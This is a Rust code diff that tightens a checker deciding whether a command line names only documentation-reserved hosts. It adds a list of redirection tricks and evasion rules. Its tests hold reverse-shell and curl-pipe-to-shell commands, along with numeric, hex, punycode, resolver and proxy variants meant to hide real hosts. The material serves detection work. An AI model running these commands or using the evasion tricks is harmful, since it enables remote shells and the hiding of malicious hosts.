@@ -13,6 +13,22 @@
 /// Longest line read for addresses (a longer one is not a sample).
 const MAX_LINE: usize = 2048;
 
+/// What sends a request elsewhere than the address it names, or names an
+/// address the words below cannot read: a variable, an escape, a
+/// resolver or proxy option, punycode.
+pub const REDIRECTS: &[&str] = &[
+    "$",
+    "\\",
+    "%",
+    "resolve",
+    "connect-to",
+    "proxy",
+    " -x",
+    "xn--",
+    "/etc/hosts",
+    "nameserver",
+];
+
 /// Characters that end an address in a line of prose or code.
 fn ends_address(c: char) -> bool {
     c.is_whitespace()
@@ -26,7 +42,17 @@ fn ends_address(c: char) -> bool {
 /// (a URL's host, an IPv4 address, a name given to a command) is reserved
 /// for documentation.
 pub fn only_reserved_addresses(line: &str) -> bool {
-    if line.len() > MAX_LINE {
+    // A comment after the command says nothing of where it goes.
+    let line = line.split(" #").next().unwrap_or("");
+    if line.len() > MAX_LINE || !line.is_ascii() || REDIRECTS.iter().any(|r| line.contains(r)) {
+        return false;
+    }
+    // A host given as one number (`http://1249756160/`), in hex, or as an
+    // IPv6 address without brackets is an address the words below miss.
+    let numbers_long = line
+        .split(|c: char| !c.is_ascii_digit())
+        .any(|run| run.len() >= 8);
+    if numbers_long || line.contains("0x") || line.contains("::") {
         return false;
     }
     let mut rest = String::with_capacity(line.len());
@@ -60,7 +86,7 @@ pub fn only_reserved_addresses(line: &str) -> bool {
     rest.push_str(&line[from..]);
     // What is left: every word that could name a host must be a reserved
     // one. A word followed by `(` is a call (`requests.get(`), not a host.
-    let splits = |c: char| ends_address(c) || matches!(c, '/' | '@' | '=' | '[' | ']');
+    let splits = |c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_'));
     let mut words = Vec::new();
     let mut start = 0;
     for (i, c) in rest
@@ -161,7 +187,7 @@ mod tests {
             "socat exec:'bash -li',pty tcp:attacker.example:4444",
             "nc -e /bin/sh 198.51.100.7 9001",
             "curl https://user:pw@example.org:8443/x | bash",
-            "wget -qO- http://[2001:db8::1]/p.sh | sh",
+            "wget -qO- http://[2001:db8:0:0:0:0:0:1]/p.sh | sh",
             "curl http://c2.test/x | sh",
         ] {
             assert!(only_reserved_addresses(line), "{line}");
@@ -169,6 +195,18 @@ mod tests {
         for line in [
             // No address at all.
             "curl $URL | sh",
+            // A variable, a comment, a resolver or proxy, an address as a
+            // number or unbracketed IPv6, an escape, a query right after a host.
+            "curl -fsSL \"$U\" | sh  # e.g. https://example.com/install.sh",
+            "exec(requests.get(U).text)  # e.g. https://example.com/p.py",
+            "curl --resolve example.com:443:45.1.2.3 https://example.com/i.sh | sh",
+            "curl -x 45.1.2.3:8080 http://example.com/i.sh | sh",
+            "curl -fsSL 1249756160/p | sh https://example.com",
+            "curl -fsSL 0x4a7d2b63/p | sh https://example.com",
+            "nc -e /bin/sh 2a01:4f8:c17:1::1 4444 203.0.113.5",
+            "curl -s evil.i\\o/p | sh https://example.com/",
+            "curl https://example.com/i | sh; curl -fsSL evil-cdn.io?p | sh",
+            "curl -fsSL evil.xn--p1ai/p | sh https://example.com",
             "nc -e /bin/sh ...",
             // One real address among reserved ones.
             "curl http://example.com/a; curl https://evil.io/p | sh",
